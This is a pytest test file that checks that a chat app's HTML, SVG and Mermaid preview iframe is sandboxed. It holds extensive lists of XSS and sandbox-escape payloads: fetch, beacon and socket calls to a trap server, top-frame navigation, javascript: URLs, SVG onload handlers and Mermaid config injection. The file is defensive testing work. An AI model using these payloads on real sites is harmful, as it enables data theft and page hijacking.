"""What a model wrote comes to life in the preview's frame, and reaches nothing from there."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from .gateway import Gateway
from .ollama import ScriptedOllama
from .profiles import PATIENCE_MS
from .steps import LAST, case, exchange
from .trap import Trap

PAGE = "<!doctype html><title>t</title><p id=a>Before</p><script>a.textContent='After'</script>"
SVG = "<svg viewBox='0 0 9 9'><circle r='4' cx='4' cy='4' fill='teal'/></svg>"
DIAGRAM = "graph TD\n  A[Start] --> B[End]"

FRAME = "#preview iframe"
SETTLING_MS = 200
"""For what hostile words may do: that they do nothing shows in nothing else. Whoever is slower is
still caught, by what has reached the trap at the end."""
OPEN = f"{LAST} .code [data-t='preview.open']"

SCRIPTS = [
    "fetch('{0}/fetch')",
    "fetch('{0}/no-cors', {{mode: 'no-cors', method: 'POST', body: 'x'}})",
    "navigator.sendBeacon('{0}/beacon', 'x')",
    "x = new XMLHttpRequest(); x.open('GET', '{0}/xhr'); x.send()",
    "new EventSource('{0}/events')",
    "new WebSocket('{0}/socket'.replace('http', 'ws'))",
    "new Image().src = '{0}/image'",
    "new Audio('{0}/audio').play()",
    "import('{0}/module.js')",
    "new Worker('{0}/worker.js')",
    "new Worker(URL.createObjectURL(new Blob([`fetch('{0}/blob-worker')`])))",
    "new SharedWorker('{0}/shared.js')",
    "navigator.serviceWorker.register('{0}/service.js')",
    "new FontFace('f', 'url({0}/font)').load()",
    "document.body.style.background = 'url({0}/style)'",
    "window.open('{0}/window')",
    "window.open('about:blank').location = '{0}/blank'",
    "parent.pwned = 1",
    "top.document.title = 'pwned'",
    "parent.localStorage.setItem('pwned', '1')",
    "localStorage.setItem('pwned', '1')",
    "document.cookie = 'pwned=1'",
    "indexedDB.open('pwned')",
    "caches.open('pwned')",
    "alert('pwned')",
    "prompt('pwned')",
    "print()",
    "parent.postMessage({{pwned: 1}}, '*')",
    "for (const one of [1, 2, 3]) new BroadcastChannel('tornado-ollama').postMessage({{id: 'x'}})",
    "new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:9'}}]}})",
    "a = document.createElement('a'); a.href = '{0}/file'; a.download = 'f'; a.click()",
    "document.documentElement.requestFullscreen()",
    "history.pushState({{}}, '', '/pwned')",
    "setInterval(() => parent.focus(), 1)",
]
"""They leave the document as it is, so that each sees it as if it were alone."""
SCRIPTS_ALONE = [
    "top.location = '{0}/top'",
    "parent.location.href = '{0}/parent'",
    "top.location.hash = 'pwned'",
    "location = '{0}/self'",
    "location.replace('{0}/replace')",
    "location = 'data:text/html,<script>fetch(\"{0}/data\")</'+'script>'",
    "location = URL.createObjectURL(new Blob(['<script>fetch(\"{0}/blob\")</'+'script>'], "
    "{{type: 'text/html'}}))",
    "location = 'javascript:fetch(\"{0}/javascript\")'",
    "a = document.createElement('a'); a.href = '{0}/link'; a.target = '_top'; a.click()",
    "f = document.createElement('form'); f.action = '{0}/form'; document.body.append(f); "
    "f.submit()",
    "i = document.createElement('iframe'); i.src = '{0}/frame'; document.body.append(i)",
    "i = document.createElement('iframe'); i.srcdoc = '<script>fetch(\"{0}/doc\")</'+'script>'; "
    "document.body.append(i)",
]
MARKUP = [
    "<img src='{0}/img'>",
    "<img srcset='{0}/srcset 1x'>",
    "<link rel=stylesheet href='{0}/css'>",
    "<link rel=preload as=image href='{0}/preload'>",
    "<link rel=prefetch href='{0}/prefetch'>",
    "<link rel=modulepreload href='{0}/modulepreload'>",
    "<link rel=manifest href='{0}/manifest'><link rel=icon href='{0}/icon'>",
    "<style>@import '{0}/import'; p {{ background: url({0}/background) }}</style><p>x</p>",
    "<script src='{0}/script.js'></script>",
    "<iframe src='{0}/iframe'></iframe>",
    "<object data='{0}/object'></object><embed src='{0}/embed'>",
    "<video src='{0}/video' poster='{0}/poster' autoplay></video>",
    "<svg><image href='{0}/svg-image'/><use href='{0}/use#a'/></svg>",
    "<input type=image src='{0}/input'>",
    "<table background='{0}/table'><tr><td>x</table>",
    "<iframe srcdoc=\"<img src='{0}/nested'>\"></iframe>",
    "<portal src='{0}/portal'></portal><fencedframe></fencedframe>",
]
MARKUP_ALONE = [
    "<meta http-equiv=refresh content='0;url={0}/refresh'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{0}/meta'>",
    "<base href='{0}/'><img src=based>",
    "<form action='{0}/submit'><button id=go>x</button></form><script>go.click()</script>",
    "<a href='{0}/ping' ping='{0}/pinged' id=b>x</a><script>b.click()</script>",
]
PICTURES = [
    "<svg onload=\"fetch('{0}/onload')\"><script>fetch('{0}/inside')</script></svg>",
    "<svg><image href='{0}/picture' onerror=\"top.location='{0}/error'\"/></svg>",
    "<svg><foreignObject><iframe src='{0}/foreign'></iframe></foreignObject></svg>",
    "<svg><a href=\"javascript:fetch('{0}/a')\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values='{0}/animate'/></svg>",
    "<svg><set onbegin=\"fetch('{0}/set')\" attributeName=x to=1 /></svg>",
    "<svg><style>@import url({0}/svg-style);</style></svg>",
    "<svg><filter><feImage href='{0}/filter'/></filter></svg>",
]
DIAGRAMS = [
    "graph TD\n  A[\"<img src='{0}/label' onerror=parent.pwned=1>\"]",
    "%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD\n  A[\"<img src='{0}/loose'>\"]",
    "graph TD\n  A --> B\n  click A href \"javascript:fetch('{0}/click')\"",
    'graph TD\n  A --> B\n  click A call fetch("{0}/call")',
    "graph TD\n  A --> B\n  style A fill:url({0}/fill)",
    "%%{{init: {{'themeCSS': '@import url({0}/theme)'}}}}%%\ngraph TD\n  A --> B",
    "%%{{init: {{'fontFamily': 'x; background: url({0}/family)'}}}}%%\ngraph TD\n  A --> B",
    "sequenceDiagram\n  A->>B: <script>fetch('{0}/sequence')</script>",
    "graph TD\n" + "\n".join(f"  A{n} --> A{n + 1}" for n in range(3_000)),
    "graph TD\n  A[" + "x" * 100_000 + "]",
    "nothing of the kind",
    "__proto__",
]


HOLD = """(kind) => {
    const home = document.querySelector('link[rel=icon]').href;
    const frame = document.createElement('iframe');
    Object.assign(frame, { id: 'held', hidden: true, src: new URL(`frames/${kind}.html`, home) });
    frame.sandbox = 'allow-scripts';
    document.body.append(frame);
    return new Promise((resolve) => { frame.onload = () => resolve(); });
}"""


@contextmanager
def held_frame(page: Any, kind: str) -> Iterator[None]:
    """A frame that is told nothing and stays, so that those after it find their process there."""
    page.evaluate(HOLD, kind)
    yield
    page.evaluate("document.querySelector('#held').remove()")


@pytest.fixture
def trap() -> Iterator[Trap]:
    trap = Trap()
    trap.start()
    yield trap
    trap.stop()


@pytest.fixture
def bare(chromium: Any, ollama: ScriptedOllama, open_gateway: Gateway) -> Iterator[Any]:
    """The page of single modules, in which breaches of a policy are what is wanted."""
    context = chromium.new_context()
    context.set_default_timeout(PATIENCE_MS)
    page = context.new_page()
    page.goto(f"{open_gateway.url}static/index.html")
    page.wait_for_selector("html[data-ready]")
    yield page
    context.close()


def show(page: Any, kind: str, text: str) -> None:
    """Opens a preview as the button does, in the place of the one before."""
    page.evaluate("document.querySelector('#preview')?.close()")
    page.evaluate(
        "async ([kind, text]) => (await import(new URL('js/markdown/preview.js',"
        " document.querySelector('link[rel=icon]').href))).openPreview(kind, text)",
        [kind, text],
    )


def by_five(texts: list[str]) -> Iterator[list[str]]:
    """Several a document: to open one takes most of the time that a text takes."""
    for start in range(0, len(texts), 5):
        yield texts[start : start + 5]


def tried(script: str) -> str:
    return f"<script>try {{{{ {script} }}}} catch {{{{}}}}</script>"


def hostile() -> Iterator[tuple[str, str]]:
    for some in by_five(SCRIPTS):
        yield "html", "<body>" + "".join(map(tried, some))
    for script in SCRIPTS_ALONE:
        yield "html", f"<body>{tried(script)}"
    for some in by_five(MARKUP):
        yield "html", "<body>" + "".join(some)
    for markup in MARKUP_ALONE:
        yield "html", f"<body>{markup}"
    for picture in PICTURES:
        yield "svg", picture
    for diagram in DIAGRAMS:
        yield "mermaid", diagram


@pytest.mark.parametrize("kind", ["html", "svg", "mermaid"])
def test_hostile_words_reach_nobody_and_nothing_of_the_page(
    bare: Any, trap: Trap, kind: str
) -> None:
    address = bare.url
    opened: list[Any] = []
    bare.on("dialog", lambda dialog: opened.append(dialog))
    bare.on("download", lambda download: opened.append(download))
    bare.context.on("page", lambda other: opened.append(other))
    with held_frame(bare, "preview"):
        for text in (text for one, text in hostile() if one == kind):
            with case(text[:2000]):
                show(bare, kind, text.format(trap.url))
                place = bare.frame_locator(FRAME)
                if kind == "mermaid":
                    place.locator("body > svg, body > pre").first.wait_for(state="attached")
                bare.wait_for_timeout(SETTLING_MS)
                kept = bare.evaluate("[window.pwned, localStorage.getItem('pwned')]")
                assert kept == [None, None]
                assert bare.url == address
    assert bare.title() == "tornado-ollama"
    assert bare.evaluate("document.cookie") == ""
    assert "pwned" not in bare.evaluate(
        "async () => JSON.stringify([await indexedDB.databases(), await caches.keys()])"
    )
    assert opened == []
    # Whatever was sent before this has arrived.
    control = bare.context.new_page()
    control.goto(f"{trap.url}/control")
    assert [path for path in trap.reached if path != "/favicon.ico"] == ["/control"]


def test_the_frame_has_no_storage_and_no_parent(bare: Any) -> None:
    show(bare, "html", "<body>Here</body>")
    bare.frame_locator(FRAME).locator("body:has-text('Here')").wait_for()
    [frame] = [one for one in bare.frames if one.parent_frame]
    for reach in (
        *("localStorage", "sessionStorage", "document.cookie", "parent.document", "top.name"),
        *("frameElement.id", "navigator.serviceWorker.ready.x", "RTCPeerConnection.name"),
    ):
        attempt = (
            f"(() => {{ try {{ {reach}; return 'reached' }} catch (e) {{ return e.name }} }})()"
        )
        assert frame.evaluate(attempt) in ("SecurityError", "TypeError", "ReferenceError"), reach
    assert frame.evaluate("origin") == "null"


def test_a_frame_that_never_rests_can_be_closed(bare: Any) -> None:
    show(bare, "html", "<p>Busy</p><script>for (;;);</script>")
    # As the page's own script: Playwright would ask the frame first whether it is in the way.
    closed = "document.querySelector('#preview header button').click()"
    bare.evaluate(closed)
    bare.wait_for_function("() => !document.querySelector('#preview iframe')")
    show(bare, "html", PAGE)
    bare.frame_locator(FRAME).locator("p:has-text('After')").wait_for()


@pytest.mark.parametrize(
    ("language", "text", "seen"),
    [
        ("html", PAGE, "p:has-text('After')"),
        ("svg", SVG, "svg circle"),
        ("xml", SVG, "svg circle"),
        ("mermaid", DIAGRAM, "svg .node >> nth=1"),
    ],
)
def test_what_was_written_is_shown_at_a_press(
    page: Any, ollama: ScriptedOllama, language: str, text: str, seen: str
) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    exchange(page, ollama, "Draw.", f"Here:\n\n```{language}\n{text}\n```\n")
    page.wait_for_selector(OPEN)
    assert not [url for url in asked if "preview" in url or "mermaid" in url]
    page.focus(OPEN)
    page.keyboard.press("Enter")
    page.frame_locator(FRAME).locator(seen).wait_for()
    assert bool([url for url in asked if "mermaid.js" in url]) == (language == "mermaid")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Close"
    page.keyboard.press("Enter")
    page.wait_for_selector("#preview", state="hidden")
    assert page.evaluate(f"document.activeElement === document.querySelector({OPEN!r})")


def test_other_code_has_no_preview(page: Any, ollama: ScriptedOllama) -> None:
    exchange(page, ollama, "Code.", "```python\nprint(1)\n```\n\n```\n<p>x</p>\n```\n")
    page.wait_for_selector(f"{LAST} .code")
    assert page.locator("[data-t='preview.open']").count() == 0


def test_on_a_phone_the_preview_takes_the_screen(
    open_page: Callable[..., Any], ollama: ScriptedOllama
) -> None:
    page = open_page(width=360, height=640, touch=True, locale="zh-CN")
    exchange(page, ollama, "Draw.", f"```html\n{PAGE}\n```\n")
    page.click(f"{OPEN}:has-text('预览')")
    page.frame_locator(FRAME).locator("p:has-text('After')").wait_for()
    assert page.locator("#preview").bounding_box() == {"x": 0, "y": 0, "width": 360, "height": 640}
    assert page.inner_text("#preview h2") == "预览"
    page.click("#preview header button")
    page.wait_for_selector("#preview", state="hidden")
